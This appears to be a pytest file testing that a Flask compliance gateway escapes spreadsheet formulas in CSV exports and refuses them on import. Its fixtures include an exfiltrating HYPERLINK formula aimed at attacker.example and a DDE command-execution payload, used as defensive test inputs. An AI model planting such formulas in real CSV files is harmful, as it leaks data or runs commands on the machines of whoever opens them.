"""CSV the gateway writes cannot carry a spreadsheet formula (OWASP CSV injection)."""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Iterator
from pathlib import Path

import pytest
from flask import Flask

from gateway.compliance.whitelist import parse_csv
from gateway.csv_cells import csv_text, safe_cell
from gateway.errors import WhitelistInvalid
from tests.helpers import RECORDS, issue_keys, make_app

SET = "cn-trace-to-eu-passport"
FORMULA = '=HYPERLINK("https://attacker.example/?"&A1,"fix the gaps here")'


@pytest.fixture
def app(tmp_path: Path) -> Iterator[Flask]:
    app = make_app(tmp_path / "instance")
    yield app
    app.extensions["gateway.instance"].db.dispose()


@pytest.mark.parametrize(
    "text", [FORMULA, "+1+1", "-2+3+cmd|' /C calc'!A0", "@SUM(A1)", "\t=1", "\r=1"]
)
def test_text_cells_that_start_a_formula_are_neutralised(text):
    assert safe_cell(text) == "'" + text
    document = csv_text(["a"], [{"a": text}])
    cell = next(csv.DictReader(io.StringIO(document)))["a"]
    assert cell.startswith("'")


def test_numbers_and_plain_text_stay_as_they_are():
    assert safe_cell(-12) == -12 and safe_cell(-0.5) == -0.5
    assert safe_cell("-12.5", numeric=True) == "-12.5"
    assert safe_cell("-12.5") == "'-12.5"  # a text column: text rules
    assert safe_cell("-1+2", numeric=True) == "'-1+2"  # not a number, even in a number column
    assert safe_cell("skos:closeMatch: = in the middle") == "skos:closeMatch: = in the middle"
    assert safe_cell(None) == "" and safe_cell("电池") == "电池"
    document = csv_text(["n", "t"], [{"n": -3, "t": "x"}], numeric={"n"})
    assert document.splitlines()[1] == "-3,x"


def test_batch_gap_report_csv_neutralises_a_mapping_comment_formula(app):
    keys = issue_keys(app.extensions["gateway.settings"])
    api = app.test_client()
    editor = keys["editor"]
    assert (
        api.post(
            f"/mappings/{SET}/versions",
            headers=editor,
            json={"version": "1.2.1", "base_version": "1.2.0"},
        ).status_code
        == 201
    )
    rows = api.get(f"/mappings/{SET}/versions/1.2.1").get_json()["rows"]
    unmapped = next(r for r in rows if r["subject_id"] == "sssom:NoTermFound")
    edited = api.patch(
        f"/mappings/{SET}/versions/1.2.1",
        headers=editor,
        json={"change": {str(unmapped["row"]): {"comment": FORMULA}}},
    )
    assert edited.status_code == 200, edited.get_json()
    published = api.post(f"/mappings/{SET}/versions/1.2.1/publish", headers=editor)
    assert published.status_code == 200, published.get_json()
    issued = api.post(
        f"/passports?mapping={SET}@1.2.1",
        data=(RECORDS / "ncm-ev-pack.json").read_bytes(),
        content_type="application/json",
        headers={**keys["exporter"], "Idempotency-Key": "web-batch:b1#1"},
    )
    assert issued.status_code == 201, issued.get_json()
    assert FORMULA in {a["reason"] for a in issued.get_json()["gaps"]["attributes"]}

    client = app.test_client()
    token = re.search(
        r'name="csrf_token" value="([^"]+)"', client.get("/login").get_data(as_text=True)
    ).group(1)
    secret = keys["exporter"]["Authorization"].removeprefix("Bearer ")
    assert client.post("/login", data={"api_key": secret, "csrf_token": token}).status_code == 303
    download = client.get("/dashboard/batches/b1/gaps.csv")
    assert download.status_code == 200 and download.mimetype == "text/csv"
    cells = [
        cell for row in csv.reader(io.StringIO(download.get_data(as_text=True))) for cell in row
    ]
    assert "'" + FORMULA in cells
    assert not [c for c in cells if c.lstrip("\ufeff").startswith(("=", "+", "-", "@"))]


def test_white_list_import_refuses_every_formula_start():
    header = (
        "batch,announcement_no,announced_on,province,name,name_en,type,status,"
        "removed_on,licence_no\n"
    )
    for start in ("=", "+", "-", "@"):
        row = f"1,公告,2030-02-01,江苏,{start}2+3,,both,listed,,T-7-03\n"
        with pytest.raises(WhitelistInvalid, match="spreadsheet formula"):
            parse_csv((header + row).encode())
